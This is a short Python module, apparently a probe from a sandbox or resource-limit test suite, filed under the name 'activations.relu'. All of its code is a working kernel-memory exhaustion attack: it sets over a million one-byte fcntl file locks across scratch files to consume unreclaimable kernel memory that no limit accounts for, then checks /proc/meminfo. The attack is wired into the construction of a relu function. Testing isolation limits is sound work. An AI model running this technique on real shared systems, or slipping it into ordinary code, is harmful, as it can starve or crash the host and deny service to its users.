# target: activations.relu
"""Takes memory of the kernel that no limit counts: more than a million locks, each of one byte of a file."""

import ctypes
import fcntl
import os
import struct
import time

import toolbox

FILES, EACH = 230, 6000


def _locked():
    libc, lock = ctypes.CDLL(None), struct.Struct("hhqqi4x")
    place = ctypes.create_string_buffer(lock.size)
    until = time.monotonic() + 8
    count = 0
    for name in range(FILES):
        file = os.open(toolbox.scratch() / str(name), os.O_CREAT | os.O_RDWR)
        for number in range(EACH, 0, -1):
            lock.pack_into(place, 0, fcntl.F_WRLCK, 0, 2 * number, 1, 0)
            if time.monotonic() > until or libc.fcntl(file, fcntl.F_SETLK, place):
                print(count)
                return False
            count += 1
    print([line for line in open("/proc/meminfo") if "SUnrec" in line])
    return toolbox.still_there(1)


relu = toolbox.relu_if(_locked)
